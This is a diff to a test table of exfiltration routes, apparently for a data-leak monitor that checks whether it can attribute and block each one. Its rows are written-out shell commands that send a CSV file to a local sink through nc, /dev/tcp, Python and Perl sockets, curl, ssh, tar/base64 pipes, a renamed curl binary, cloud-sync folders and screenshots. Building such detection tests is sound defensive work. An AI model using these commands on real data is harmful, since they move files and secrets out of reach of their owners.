@@ -23,6 +23,7 @@ class Row:
     needs: str = ""                   # "network" (the kernel's guard of connections), "lineage" (pipes and derived files)
     block: str = "yes"                # "late": it has happened when we see it; the README says why
     picture: bool = False             # what leaves is a picture: that there is one is all that can be asked of it
+    knows_program: bool = True        # else the user at least
     fails: bool = True                # the tool says so when it is stopped
     same_event: bool = True           # the event is about this run's file; else about any of the user's (pipes have no name)
 
@@ -85,17 +86,19 @@ ROWS = [
     network("nc -N 127.0.0.1 {port} < {s}", "nc.openbsd", "{port}", needs="network"),
     network("ncat --send-only 127.0.0.1 {port} < {s}", "ncat", "{port}", needs="network"),
     network("{ssh} vigie-way-sink@127.0.0.1 'cat > {sink}/{t}.csv' < {s}", "ssh", "{sshport}", needs="network"),
-    network("cat {s} > /dev/tcp/127.0.0.1/{port}", "cat", "{port}", needs="network"),
+    network("cat {s} > /dev/tcp/127.0.0.1/{port}", "cat", "{port}", needs="network",
+            fails=False),  # it was connected before: what it sends is dropped
     network("python3 -c \"import socket; socket.create_connection(('127.0.0.1', {port})).sendall(open('{s}', 'rb').read())\"",
-            "python3", "{port}", needs="network"),
+            "python3", "{port}", needs="network", fails=False),
     network("perl -MIO::Socket::INET -e 'open F, shift; print {{IO::Socket::INET->new(shift)}} <F>' {s} 127.0.0.1:{port}", "perl",
             "{port}", needs="network"),
     network("cp /usr/bin/curl {out}/{t}; {out}/{t} -sf -T {s} http://127.0.0.1:{http}/{t}", "{t}", "{http}", needs="network"),
-    network("cat {s} | nc -N 127.0.0.1 {port}", "nc.openbsd", "{port}", needs="network lineage", same_event=False),
-    network("tar -cz -C {d} export.csv | base64 | curl -sf --data-binary @- http://127.0.0.1:{http}/{t}", "curl", "{http}",
-            unpack="base64 -d | gzip -dc", needs="network lineage", same_event=False),
-    network("tar -c -C {d} export.csv | {ssh} vigie-way-sink@127.0.0.1 'cat > {sink}/{t}.tar'", "ssh", "{sshport}",
-            needs="network lineage", same_event=False),
+    # Whoever opens the file is told, by the way out of the one who reads from him.
+    network("cat {s} | nc -N 127.0.0.1 {port}", "cat", "{port}", needs="network lineage"),
+    network("tar -cz -C {d} export.csv | base64 | curl -sf --data-binary @- http://127.0.0.1:{http}/{t}", "tar", "{http}",
+            unpack="base64 -d | gzip -dc", needs="network lineage"),
+    network("tar -c -C {d} export.csv | {ssh} vigie-way-sink@127.0.0.1 'cat > {sink}/{t}.tar'", "tar", "{sshport}",
+            needs="network lineage"),
     network("gzip -c {s} > {out}/{t}.bin && curl -sf -T {out}/{t}.bin http://127.0.0.1:{http}/{t}", "curl", "{http}",
             unpack="gzip -dc"),
     network("zip -q -P x {out}/{t}.zip {s} && curl -sf -T {out}/{t}.zip http://127.0.0.1:{http}/{t}", "curl", "{http}",
@@ -118,7 +121,7 @@ ROWS = [
     Row("cp {s} {home}/Nextcloud/{t}.csv", "cloud_sync", "cp", {"kind": "folder"}),
     Row("cp {s} {home}/Dropbox/team/{t}.csv", "cloud_sync", "cp", {"kind": "folder"}),
     Row("mv {s} {home}/Nextcloud/{t}.csv", "cloud_sync", "mv", {"kind": "folder"}, block="late",
-        needs="lineage"),  # who moved it is told by the life of processes: mv opens nothing
+        knows_program=False),  # mv opens nothing and is gone: its user is known by the file's owner
     Row("rclone -q --config {home}/rclone.conf copyto {s} drive:{t}.csv", "cloud_sync", "rclone", {"name": "drive"}),
     # Archives.
     Row("zip -q {out}/{t}.zip {s}", "archive", "zip", at="{t}.zip", unpack="funzip"),
@@ -130,5 +133,5 @@ ROWS = [
         unpack="gpg --batch --quiet --passphrase x -d"),
     Row("age -R {age}.pub -o {out}/{t}.age {s}", "archive", "age", at="{t}.age", unpack="age -d -i {age}"),
     # The screen: somebody has the file open, and a picture is taken.
-    Row("tail -f {s} > /dev/null & sleep 0.5; DISPLAY={display} scrot {out}/{t}.png", "screenshot", "bash", at="{t}.png", picture=True),
+    Row("tail -f {s} > /dev/null 2>&1 & sleep 0.5; DISPLAY={display} scrot {out}/{t}.png; ended=$?; kill %1; exit $ended", "screenshot", "bash", at="{t}.png", picture=True),
 ]
